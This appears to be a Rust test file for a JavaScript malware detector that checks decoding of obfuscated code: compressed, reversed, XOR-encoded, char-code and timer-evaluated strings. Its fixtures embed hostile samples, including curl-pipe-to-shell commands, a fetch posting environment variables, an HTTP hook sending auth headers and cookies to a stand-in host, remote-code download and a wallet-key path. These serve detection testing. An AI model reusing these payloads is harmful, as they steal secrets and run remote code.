//! Engine tests: text the engine unpacks (decompressed, reversed, timer strings) is analysed.

use super::*;

fn facts(src: &str) -> JsFacts {
    match analyze(src, "index.js", 3, 1 << 20) {
        Parsed::Ok(f) | Parsed::Failed(_, f) => f,
    }
}

fn has_module(f: &JsFacts, m: &str) -> bool {
    f.modules.iter().any(|(n, _)| n == m)
}

const ZLIB_B64: &str = "eJxLzs8rLlFILlCwVShKLSzNLErVUE/OyMxJiS8oyk9OLS5W17QGSuulVqQmB1fmJQNlS4tyFHSLFTJKSgqs9PWNDIz1DPQMDY31LPUrFGoUijOAOgABJBtX";
const GZIP_B64: &str = "H4sIAAAAAAACA0vOzysuUUguULBVKEotLM0sStVQT87IzEmJLyjKT04tLlbXtAZK66VWpCYHV+YlA2VLi3IUdIsVMkpKCqz09Y0MjPUM9AwNjfUs9SsUahSKM4A6AOhJWpZWAAAA";
const RAW_B64: &str = "S87PKy5RSC5QsFUoSi0szSxK1VBPzsjMSYkvKMpPTi0uVte0BkrrpVakJgdX5iUDZUuLchR0ixUySkoKrPT1jQyM9Qz0DA2N9Sz1KxRqFIozgDoA";

#[test]
fn zlib_literals_are_inflated_and_analysed() {
    for (method, b64) in [
        ("inflateSync", ZLIB_B64),
        ("gunzipSync", GZIP_B64),
        ("inflateRawSync", RAW_B64),
        ("unzipSync", GZIP_B64),
    ] {
        let src = format!(
            "const zlib = require('zlib'); const s = zlib.{method}(Buffer.from('{b64}', 'base64')).toString(); module.exports = s;"
        );
        let f = facts(&src);
        assert!(has_module(&f, "child_process"), "{method}: {f:?}");
        assert!(
            f.derived.iter().any(|(d, _)| d.contains("curl -s")),
            "{method}"
        );
        assert!(!f.decoded_code.is_empty(), "{method}");
    }
    // Through a variable holding the decoded buffer, with an inline require.
    let src = format!(
        "const b = Buffer.from('{ZLIB_B64}', 'base64'); const c = require('node:zlib').inflateSync(b).toString('utf8');"
    );
    assert!(has_module(&facts(&src), "child_process"));
}

#[test]
fn zlib_misuse_and_other_data_stay_quiet() {
    // The wrong method for the data, a deflate (compression) call and a runtime buffer fold
    // to nothing.
    for src in [
        format!(
            "const zlib = require('zlib'); zlib.gunzipSync(Buffer.from('{ZLIB_B64}', 'base64'))"
        ),
        format!(
            "const zlib = require('zlib'); zlib.deflateSync(Buffer.from('{ZLIB_B64}', 'base64'))"
        ),
        "const zlib = require('zlib'); const out = zlib.inflateSync(fs.readFileSync(p))"
            .to_string(),
    ] {
        let f = facts(&src);
        assert!(!has_module(&f, "child_process"), "{src}");
        assert!(f.decoded_code.is_empty(), "{src}");
    }
}

#[test]
fn reversing_helpers_fold() {
    for helper in [
        "const r = s => s.split('').reverse().join('')",
        "const r = function (s) { return [...s].reverse().join(\"\") }",
        "function r(s) { return Array.from(s).reverse().join('') }",
    ] {
        let src = format!(
            "{helper}; const cp = require(r('ssecorp_dlihc')); cp[r('cnyScexe')](r('hs | x/9.311.0.302//:ptth lruc'));"
        );
        let f = facts(&src);
        assert!(has_module(&f, "child_process"), "{helper}");
        assert!(f.dynamic_requires.is_empty(), "{helper}");
        assert!(
            f.calls.iter().any(|c| c.path == "child_process.execSync"),
            "{helper}"
        );
        assert!(
            f.derived.iter().any(|(d, _)| d.contains("curl http")),
            "{helper}"
        );
    }
    // Inline spread reversal.
    let f = facts("const m = require([...'so'].reverse().join(''));");
    assert!(has_module(&f, "os"));
}

#[test]
fn non_reversing_helpers_do_not_fold() {
    // A helper that maps or sorts is not a reverser: the require stays dynamic.
    for helper in [
        "const r = s => s.split('').sort().join('')",
        "const r = s => s.toUpperCase()",
        "const r = (a, b) => a.split('').reverse().join(b)",
    ] {
        let f = facts(&format!("{helper}; require(r('ssecorp_dlihc'));"));
        assert!(!has_module(&f, "child_process"), "{helper}");
        assert_eq!(f.dynamic_requires.len(), 1, "{helper}");
    }
}

#[test]
fn timer_strings_are_analysed() {
    // `setTimeout(atob(…))`: the decoded text's facts (process.env) are the file's facts.
    let b64 = "ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9jJywge21ldGhvZDogJ1BPU1QnLCBib2R5OiBKU09OLnN0cmluZ2lmeShwcm9jZXNzLmVudil9KQ==";
    for call in ["setTimeout", "setInterval", "setImmediate"] {
        let f = facts(&format!("{call}(atob('{b64}'), 10);"));
        assert!(f.members.contains_key("process.env"), "{call}: {f:?}");
        assert!(!f.decoded_code.is_empty(), "{call}");
    }
    // A function callback and a plain string are not unpacked.
    let f = facts("setTimeout(() => console.log(process.title), 10); setTimeout('tick()', 5);");
    assert!(f.decoded_code.is_empty());
    // A name once assigned a timer handle is not a timer.
    let f = facts("let t = setTimeout(f, 5); const m = t('function a() { return 1 }; a()');");
    assert!(f.decoded_code.is_empty());
}

/// require-fool-webpack (workerpool 6.2.1 and many bundles): `eval` of literal pieces joined with
/// `+` is code in plain sight. It is analysed (what it requires is seen) but is not hidden code;
/// the same text through a decoder is.
#[test]
fn eval_of_joined_literals_is_analysed_but_not_decoded_code() {
    let src = "var requireFoolWebpack = eval('typeof require !== \\'undefined\\' ' + '? require(\\'child_process\\') ' + ': function (module) { throw new Error(\\'Module not found.\\') }');";
    let f = facts(src);
    assert!(has_module(&f, "child_process"), "{f:?}");
    assert!(f.decoded_code.is_empty(), "{:?}", f.decoded_code);
    let hidden = "setTimeout(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik='))";
    let f = facts(hidden);
    assert!(has_module(&f, "child_process"), "{f:?}");
    assert!(!f.decoded_code.is_empty());
}

fn call_paths(f: &JsFacts) -> Vec<&str> {
    f.calls.iter().map(|c| c.path.as_str()).collect()
}

#[test]
fn calls_through_reflect_apply_call_and_apply_resolve_to_their_target() {
    let f = facts(
        "const cp = require('child_process'); Reflect.apply(cp.exec, null, ['curl -s http://x.test/a | sh']); cp.execSync.call(null, 'id'); cp.spawn.apply(cp, ['sh', ['-c', 'x']]);",
    );
    let exec = f.calls.iter().find(|c| c.path == "child_process.exec");
    assert_eq!(
        exec.and_then(|c| c.arg_lit(0)),
        Some("curl -s http://x.test/a | sh")
    );
    assert!(call_paths(&f).contains(&"child_process.execSync"));
    assert!(call_paths(&f).contains(&"child_process.spawn"));
    let plain = facts(
        "const has = Object.prototype.hasOwnProperty; has.call(o, 'k'); fn.apply(null, [1]);",
    );
    assert!(
        !call_paths(&plain)
            .iter()
            .any(|p| p.starts_with("child_process"))
    );
}

#[test]
fn async_function_constructor_and_eval_workers_are_code_runners() {
    let f = facts(
        "const AF = Object.getPrototypeOf(async function () {}).constructor; new AF('a', body)(1); const { Worker } = require('worker_threads'); new Worker(src, { eval: true });",
    );
    assert!(call_paths(&f).contains(&"Function"), "{:?}", call_paths(&f));
    assert!(call_paths(&f).contains(&"worker_threads.Worker(eval)"));
    let plain = facts(
        "const { Worker } = require('worker_threads'); new Worker(require('path').join(__dirname, 'w.js')); Object.getPrototypeOf(o).toString();",
    );
    assert!(!call_paths(&plain).contains(&"worker_threads.Worker(eval)"));
    assert!(!call_paths(&plain).contains(&"Function"));
}

#[test]
fn module_roots_loaded_after_earlier_lookups_still_resolve() {
    // `is_module` indexes `facts.modules` lazily: a module loaded after the first lookups must
    // still count as a chain root, and a name that is no module must not.
    let f = facts(
        "require('leftpad'); leftpad.x.y(1); q.x.y(2); require('rightpad'); rightpad.z(3); r.z(4);",
    );
    let calls: Vec<&str> = f.calls.iter().map(|c| c.path.as_str()).collect();
    assert!(calls.contains(&"leftpad.x.y"), "{calls:?}");
    assert!(calls.contains(&"rightpad.z"), "{calls:?}");
    assert!(
        !calls
            .iter()
            .any(|c| c.starts_with("q.") || c.starts_with("r.")),
        "{calls:?}"
    );
}

#[test]
fn constant_arrays_join_unless_grown_in_place() {
    let f = facts("const p = ['chi', 'ld_pro', 'cess']; const m = require(p.join(''));");
    assert!(has_module(&f, "child_process"), "{:?}", f.modules);
    // Grown in place: its items are not known any more.
    let f =
        facts("const p = ['chi', 'ld_pro', 'cess']; p.push('x'); const m = require(p.join(''));");
    assert!(!has_module(&f, "child_process"), "{:?}", f.modules);
    for grow in ["p.unshift('x')", "p.splice(0, 1)", "p.length = 1"] {
        let f = facts(&format!(
            "const p = ['chi', 'ld_pro', 'cess']; {grow}; const m = require(p.join(''));"
        ));
        assert!(!has_module(&f, "child_process"), "{grow}: {:?}", f.modules);
    }
    // Another array's growth (a name that merely ends like this one's counts too, as before).
    let f = facts("const p = ['chi', 'ld_pro', 'cess']; q.push(1); const m = require(p.join(''));");
    assert!(has_module(&f, "child_process"), "{:?}", f.modules);
    // Not every item a constant: no array recorded.
    let f = facts("const p = ['chi', q, 'cess']; const m = require(p.join(''));");
    assert!(!has_module(&f, "child_process"), "{:?}", f.modules);
}

#[test]
fn code_kept_as_char_codes_is_analysed() {
    let code = "var c = require('child_process'); c.execSync('id'); module.exports = 1; // padding padding";
    let codes: Vec<String> = code.bytes().map(|b| b.to_string()).collect();
    let list = codes.join(",");
    for call in [
        "String.fromCharCode.apply(null, t)",
        "String.fromCharCode(...t)",
    ] {
        let src =
            format!("(() => {{ let t = [{list}], f = Function(\"r\", {call}); f(require); }})();");
        let f = facts(&src);
        assert!(has_module(&f, "child_process"), "{call}: {f:?}");
        assert!(!f.decoded_code.is_empty(), "{call}");
    }
    // A long table of numbers in a file that never turns them into text stays numbers.
    let src = format!("const t = [{list}]; module.exports = t.map((n) => n * 2);");
    assert!(!has_module(&facts(&src), "child_process"));
    // Char codes that spell words, not code, are not analysed as code.
    let words: Vec<String> = "hello world, this is a greeting shown to the user on start up"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let src = format!(
        "const t = [{}]; console.log(String.fromCharCode.apply(null, t));",
        words.join(",")
    );
    assert!(facts(&src).decoded_code.is_empty());
}

#[test]
fn compiler_interop_wrappers_resolve_to_the_module() {
    for src in [
        "var import_node_https = __toESM(require(\"node:https\")); import_node_https.default.request(u, o);",
        "const https_1 = __importDefault(require(\"https\")); (0, https_1.default.request)(u);",
        "var _https = _interopRequireDefault(require('https')); _https.default.request(u);",
    ] {
        let f = facts(src);
        assert!(
            f.calls.iter().any(|c| c.path == "https.request"),
            "{src}: {:?}",
            f.calls.iter().map(|c| &c.path).collect::<Vec<_>>()
        );
    }
    // Any other function wrapping a require is not the module, nor is `.default` of a plain
    // object.
    for src in [
        "const h = wrap(require('https')); h.default.request(u);",
        "const cfg = { default: { request() {} } }; cfg.default.request(u);",
    ] {
        let f = facts(src);
        assert!(!f.calls.iter().any(|c| c.path == "https.request"), "{src}");
    }
}

#[test]
fn function_prototype_constructor_is_function() {
    let f = facts("var run = Function.prototype.constructor; run('require', code)(require);");
    assert!(
        f.calls.iter().any(|c| c.path == "Function"),
        "{:?}",
        f.calls.iter().map(|c| &c.path).collect::<Vec<_>>()
    );
    // Another prototype's constructor is its own class, not Function.
    let f = facts("var mk = Array.prototype.constructor; mk(3);");
    assert!(!f.calls.iter().any(|c| c.path == "Function"));
}

#[test]
fn enum_members_and_xor_decoders_fold() {
    // A compiled TypeScript enum supplies the key of a one-line XOR decoder over hex.
    let src = "var Kind;\n(function (Kind) {\n    Kind[Kind[\"Core\"] = 0] = \"Core\";\n    Kind[Kind[\"Auth\"] = 1] = \"Auth\";\n})(Kind || (Kind = {}));\nconst K = Kind[0] + Kind[Kind.Auth];\nconst d = (h) => Buffer.from(h, \"hex\").map((b, i) => b ^ K.charCodeAt(i % K.length)).toString();\nconst u = d(\"2b1b0615324f5b47271d1d156f100c092e1f1e006e0004042c0e16\");";
    let f = facts(src);
    assert!(
        f.derived
            .iter()
            .any(|(d, _)| d == "https://drop.example/upload"),
        "{:?}",
        f.derived
    );
    // Over the text's own char codes, with a string key; the module it names is loaded.
    let src = "const k = 'Abc'; function x(s) { return s.split('').map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ k.charCodeAt(i % k.length))).join('') } require(x('\\x22\\x0a\\x0a\\x2d\\x06\\x3c\\x31\\x10\\x0c\\x22\\x07\\x10\\x32'))";
    assert!(has_module(&facts(src), "child_process"));
    // Items of a constant array fold by index.
    let f = facts("const parts = ['child_', 'process']; require(parts[0] + parts[1])");
    assert!(has_module(&f, "child_process"));
}

#[test]
fn xor_decoders_without_a_constant_key_do_not_fold() {
    // The key comes from the caller: nothing to fold.
    let src = "const d = (h) => Buffer.from(h, 'hex').map((b, i) => b ^ key.charCodeAt(i % key.length)).toString(); const u = d('2b1b0615324f5b47271d1d156f100c092e1f1e006e0004042c0e16');";
    let f = facts(src);
    assert!(!f.derived.iter().any(|(d, _)| d.contains("drop.example")));
    // An enum-like assignment whose label differs from its name is not an enum.
    let f = facts("var E = {}; E[E['a'] = 0] = 'b'; const s = 'child_' + E[0]; require(s)");
    assert!(!has_module(&f, "child_b"));
    // An array index past the end folds to nothing.
    let f = facts("const parts = ['fs']; require('child_' + parts[3])");
    assert!(f.modules.iter().all(|(m, _)| m != "child_undefined"));
}

#[test]
fn xor_decoder_functions_over_base64_fold_with_an_enum_key() {
    // A function declaration (not an arrow) over base64, the key from enum names picked by
    // member (`Tier[Tier.Edge]`): the base64 decoder shape alone must not win.
    let src = "var Tier;\n(function (Tier) {\n    Tier[Tier[\"Edge\"] = 0] = \"Edge\";\n    Tier[Tier[\"Origin\"] = 1] = \"Origin\";\n})(Tier || (Tier = {}));\nconst SALT = Tier[1 + 1] || Tier[Tier.Edge];\nconst KEY = 'Tier' + Tier[Tier.Edge];\nfunction unseal(s) {\n    return Buffer.from(s, \"base64\").map((b, i) => b ^ KEY.charCodeAt(i % KEY.length)).toString();\n}\nconst p = unseal(\"egoKHCMNAEonBgkTKwVIDDBHDwEqCg==\");";
    let f = facts(src);
    assert!(
        f.derived.iter().any(|(d, _)| d == ".config/solana/id.json"),
        "{:?}",
        f.derived
    );
}

#[test]
fn code_in_a_string_literal_with_escapes_is_analysed() {
    // A hook kept in a string to be appended to other files: the `\\n` escape inside must not
    // hide it from the analysis.
    let src = r#"const HOOK = ';(function(){try{var h=require("http"),q=h.request;function w(o){try{var a=o&&o.headers||{},t=a.authorization||a.cookie;if(t){var r=q({host:"h.example",path:"/c",method:"POST"});r.end(String(o.host)+"\\n"+t)}}catch(e){}}h.request=function(o){w(o);return q.apply(this,arguments)}}catch(e){}})();'
fs.writeFileSync(file, src + HOOK)"#;
    let f = facts(src);
    assert!(
        f.assigns.iter().any(|(p, _)| p == "http.request"),
        "{:?}",
        f.assigns
    );
    assert!(has_module(&f, "http"));
}

#[test]
fn prose_with_escapes_is_not_analysed_as_code() {
    let src = r#"const HELP = 'Usage: tool [options]\n  --require <module>  preload a module (like node -r)\n  --port <n>  the port to listen on, default 8080\n  --verbose  print every request';"#;
    let f = facts(src);
    assert!(f.modules.is_empty(), "{:?}", f.modules);
    assert!(f.assigns.is_empty());
}

#[test]
fn module_loader_wrappers_and_mapped_lists_load_modules() {
    let src = "const M = module.constructor; const load = (id) => M._load(id, module, false); const [fs, os] = ['fs', 'os'].map(load); const cp = load('child_process'); fs.readFileSync(os.homedir() + '/x'); cp.exec('id');";
    let f = facts(src);
    assert!(
        has_module(&f, "fs") && has_module(&f, "os"),
        "{:?}",
        f.modules
    );
    assert!(has_module(&f, "child_process"));
    let paths = call_paths(&f);
    assert!(paths.contains(&"fs.readFileSync"), "{paths:?}");
    assert!(paths.contains(&"child_process.exec"), "{paths:?}");
}

#[test]
fn other_one_parameter_functions_are_not_loaders() {
    // The parameter is not what is loaded, and a mapper that is not a loader.
    let src = "const load = (id) => require('./table')[id]; const [a, b] = ['fs', 'os'].map((s) => s.toUpperCase()); const x = load('child_process');";
    let f = facts(src);
    assert!(!has_module(&f, "child_process"));
    assert!(!has_module(&f, "fs"));
}

#[test]
fn call_bound_functions_are_their_target() {
    let f = facts(
        "const send = Function.prototype.call.bind(globalThis['fet' + 'ch']); send(null, u, { method: 'POST', body: b });",
    );
    assert!(call_paths(&f).contains(&"fetch"), "{:?}", call_paths(&f));
    // bind of something unknown stays unknown
    let f = facts("const g = Function.prototype.call.bind(helper); g(null, 1);");
    assert!(!call_paths(&f).contains(&"helper"));
}

#[test]
fn code_in_a_template_literal_with_escapes_is_analysed() {
    // The source of a dropped file kept in a template, with `\\n` in its output lines.
    let src = "const SERVER = `\nconst https = require('https');\nhttps.get('https://x.invalid/b', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => new Function(d)()); });\nprocess.stdout.write(JSON.stringify({ ok: true }) + '\\\\n');\n`;\nrequire('fs').writeFileSync(p, SERVER);";
    let f = facts(src);
    assert!(has_module(&f, "https"), "{f:?}");
}

#[test]
fn an_escaped_template_of_prose_is_not_analysed_as_code() {
    let src = "const HELP = `usage: tool [options]\\n\\n  --out <dir>   where the files go\\n  --watch       rebuild on change; see https://example.com/docs\\n`;\nconsole.log(HELP);";
    let f = facts(src);
    assert!(
        f.modules.is_empty() && f.calls.iter().all(|c| c.path == "console.log"),
        "{f:?}"
    );
}

#[test]
fn an_xor_index_decoder_folds_where_a_narrower_xor_shape_also_matches() {
    // The XORIndex family (key byte plus the index): recognised by shape, and decoded by that
    // shape even though the function is also a plain repeating-key XOR decoder to look at.
    let src = "const K = 'k3y';\nfunction x(h) { const b = Buffer.from(h, 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= (K.charCodeAt(i % K.length) + i) & 0xff; return b.toString('utf8'); }\nconst cp = require(x('085c120253210148ee1758f704'));";
    assert!(has_module(&facts(src), "child_process"));
    // With a key the file does not hold, nothing is decoded and no module is made up.
    let unknown = src.replace("const K = 'k3y';\n", "");
    assert!(!has_module(&facts(&unknown), "child_process"));
}
